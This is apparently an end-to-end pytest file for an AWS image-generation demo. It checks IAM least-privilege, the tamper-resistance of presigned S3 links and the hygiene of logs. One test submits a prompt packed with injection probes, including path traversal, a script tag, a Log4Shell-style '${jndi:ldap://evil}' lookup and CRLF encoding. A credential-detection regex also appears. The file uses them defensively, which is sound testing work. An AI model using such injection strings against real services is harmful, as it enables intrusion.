"""Roles may do what they do and nothing else: each permission is used, and each is needed."""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from darkroom.demo.client import download
from tests.e2e.deployment import Deployment
from tests.e2e.let_in import (
    ACCESS_LOGS,
    never_used,
    services_let_in,
    tell_the_operations_topic,
    turn_callers_away,
)
from tests.e2e.permissions import (
    ANY_KEY,
    NOT_EXERCISED,
    assert_all_used,
    bury_events,
    denied,
    drawn,
    roles_of,
    see_every_kind_of_end,
    unexpectedly_denied,
)
from tests.e2e.seldom_done import end_due_keys, update_the_endpoint
from tests.eventually import eventually

pytestmark = pytest.mark.e2e


@pytest.fixture
def demo(demo: Deployment) -> Deployment:
    """The demo with an instance in service, so that no test waits for its scaling."""
    drawn(demo, "a door that stands open")
    return demo


def test_every_permission_of_every_role_is_used(demo: Deployment) -> None:
    roles = roles_of(demo, "data", "inference", "api", "monitoring")
    cleanup = {role: grants for role, grants in roles.items() if "BucketCleanup" in role}
    roles = {role: grants for role, grants in roles.items() if role not in cleanup}
    assert len(roles) == 5
    see_every_kind_of_end(demo)
    end_due_keys(demo)
    update_the_endpoint(demo)
    bury_events(demo, "Completion", "Reconciliation", "ApiKeys")
    assert_all_used(demo, roles, accepted=(ANY_KEY, *NOT_EXERCISED))
    # Nothing was tried in vain either, but what the broken configuration below asked for.
    assert unexpectedly_denied(demo, roles) == []


def test_every_statement_that_lets_a_service_in_is_used(demo: Deployment) -> None:
    permitted = services_let_in(demo, "data", "inference", "api", "monitoring")
    assert len({one.statement for one in permitted}) >= 12
    demo.sandbox.inject(kill_workers=1)
    drawn(demo, "a door that fell off its hinges")
    tell_the_operations_topic(demo)
    turn_callers_away(
        demo,
        "image_api.completion.handler",
        "image_api.reconciliation.handler",
        "api_keys.handler.handler",
    )
    assert never_used(demo, permitted, accepted=[ACCESS_LOGS]) == []


def test_a_statement_that_lets_a_service_in_for_nothing_is_found(demo: Deployment) -> None:
    functions, front = demo.client("lambda"), "image_api.front.handler"
    [name] = [
        one["FunctionName"] for one in functions.list_functions()["Functions"] if one["Handler"] == front
    ]
    source = "arn:aws:s3:::nobodys-bucket"
    functions.add_permission(
        FunctionName=name,
        StatementId="for-nothing",
        Action="lambda:InvokeFunction",
        Principal="s3.amazonaws.com",
        SourceArn=source,
    )
    try:
        [found] = never_used(demo, {one for one in services_let_in(demo, "api") if source in one.statement})
        assert "s3.amazonaws.com" in found
    finally:
        functions.remove_permission(FunctionName=name, StatementId="for-nothing")


def test_a_topic_that_does_not_let_alarms_in_hears_of_none(demo: Deployment) -> None:
    sns, topic = demo.client("sns"), demo.resource("monitoring", "AWS::SNS::Topic")
    before = sns.get_topic_attributes(TopicArn=topic)["Attributes"]["Policy"]
    document = json.loads(before)
    denials = [one for one in document["Statement"] if one["Effect"] == "Deny"]
    closed = json.dumps({**document, "Statement": denials})
    sns.set_topic_attributes(TopicArn=topic, AttributeName="Policy", AttributeValue=closed)
    try:
        tell_the_operations_topic(demo)
        eventually(
            lambda: (
                f"cloudwatch.amazonaws.com: sns:Publish on {topic}"
                in denied(demo, ["cloudwatch.amazonaws.com"])
            ),
            "the alarm turned away",
            seconds=30,
            every=0.3,
        )
    finally:
        sns.set_topic_attributes(TopicArn=topic, AttributeName="Policy", AttributeValue=before)


@pytest.mark.parametrize(
    "action", ["dynamodb:GetItem", "dynamodb:PutItem", "s3:PutObject", "sagemaker:InvokeEndpointAsync"]
)
def test_without_one_of_its_permissions_the_front_end_can_not_take_a_request(
    demo: Deployment, action: str
) -> None:
    request = {"prompt": f"a door without {action}", "steps": 1}
    with _taken_away(demo, "Front", action) as role:
        assert demo.api.ask(request).status == 503
    assert any(f"{role}: {action} on " in one for one in denied(demo, _arns(demo, role)))
    assert demo.api.ask(request).status == 202


def test_without_its_permission_to_write_pictures_the_endpoint_serves_none_and_says_why(
    demo: Deployment,
) -> None:
    with _taken_away(demo, "ExecutionRole", "s3:PutObject", stack="inference") as role:
        asked = demo.api.ask({"prompt": "a picture that can't be kept", "steps": 1})
        failed = demo.api.wait(asked.body["id"], deadline_seconds=60)
    assert failed.body["status"] == "failed"
    assert "3 attempts" in failed.body["reason"]
    assert any(f"{role}: s3:PutObject on " in one for one in denied(demo, _arns(demo, role)))


def test_a_link_opens_its_one_picture_and_no_other_object(demo: Deployment) -> None:
    first, second = (drawn(demo, f"door number {number}") for number in (1, 2))
    links = [str(demo.api.job(one).body["picture"]["url"]) for one in (first, second)]
    assert all(download(link).startswith(b"\x89PNG") for link in links)
    keys = [link.split("?")[0] for link in links]
    assert _status(links[0].replace(keys[0], keys[1])) == 403
    assert _status(links[0].replace(keys[0], keys[0].rsplit("/pictures/", 1)[0])) == 403
    assert _status(links[0].replace("X-Amz-Expires=900", "X-Amz-Expires=604800")) == 403
    assert _status(keys[0]) == 403
    request = urllib.request.Request(links[0], method="PUT", data=b"mine")  # noqa: S310
    assert _status(request) == 403


# What a role's credentials and what it signed look like.
_CREDENTIAL = re.compile(
    r"(AKIA|ASIA)[A-Z0-9]{16}|X-Amz-(Signature|Security-Token|Credential)|aws_secret", re.I
)


def test_no_log_holds_a_credential_a_link_or_a_prompt(demo: Deployment) -> None:
    prompt = '../../x"><script>,"_aws":{Door9d1e ${jndi:ldap://evil}%0d%0a'
    job_id = drawn(demo, prompt)
    link = str(demo.api.job(job_id).body["picture"]["url"])
    assert _CREDENTIAL.search(link)  # so that it would be found
    lines = _log_lines(demo)
    assert any(job_id in line for line in lines)
    assert [line for line in lines if _CREDENTIAL.search(line)] == []
    elsewhere = [*lines, *_keys_and_metadata(demo), *_metrics(demo), str(demo.sandbox.notifications())]
    assert [one for one in elsewhere if "Door9d1e" in one or "jndi" in one] == []
    assert [one for one in elsewhere if demo.key in one] == []


def _log_lines(demo: Deployment) -> list[str]:
    logs = demo.client("logs")
    groups = [one["logGroupName"] for one in logs.describe_log_groups()["logGroups"]]
    return [
        str(event["message"])
        for group in groups
        if demo.name in group
        for page in logs.get_paginator("filter_log_events").paginate(logGroupName=group)
        for event in page["events"]
    ]


def _keys_and_metadata(demo: Deployment) -> list[str]:
    s3 = demo.client("s3")
    return [
        f"{one['Key']} {s3.head_object(Bucket=bucket, Key=one['Key'])['Metadata']}"
        for bucket in demo.buckets()
        if "log" not in bucket
        for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket)
        for one in page.get("Contents", [])
    ]


def _metrics(demo: Deployment) -> list[str]:
    pages = demo.client("cloudwatch").get_paginator("list_metrics").paginate()
    return [str(one) for page in pages for one in page["Metrics"]]


def _status(request: Any) -> int:
    try:
        with urllib.request.urlopen(request, timeout=30) as response:  # noqa: S310
            return int(response.status)
    except urllib.error.HTTPError as error:
        with error:
            return error.code


@contextmanager
def _taken_away(demo: Deployment, role: str, action: str, *, stack: str = "api") -> Iterator[str]:
    """The name of a role that lacks one action inside the block."""
    iam = demo.client("iam")
    resources = demo.client("cloudformation").describe_stack_resources(StackName=f"{demo.name}-{stack}")
    [name] = [
        one["PhysicalResourceId"]
        for one in resources["StackResources"]
        if one["ResourceType"] == "AWS::IAM::Role" and role in one["LogicalResourceId"]
    ]
    before = {
        policy: iam.get_role_policy(RoleName=name, PolicyName=policy)["PolicyDocument"]
        for policy in iam.list_role_policies(RoleName=name)["PolicyNames"]
    }
    try:
        for policy, document in before.items():
            left = [_without(one, action) for one in document["Statement"]]
            without = {**document, "Statement": [one for one in left if one["Action"]]}
            iam.put_role_policy(RoleName=name, PolicyName=policy, PolicyDocument=json.dumps(without))
        yield name
    finally:
        for policy, document in before.items():
            iam.put_role_policy(RoleName=name, PolicyName=policy, PolicyDocument=json.dumps(document))


def _without(statement: dict[str, Any], action: str) -> dict[str, Any]:
    actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
    return {**statement, "Action": [one for one in actions if one != action]}


def _arns(demo: Deployment, role: str) -> list[str]:
    return [str(demo.client("iam").get_role(RoleName=role)["Role"]["Arn"])]
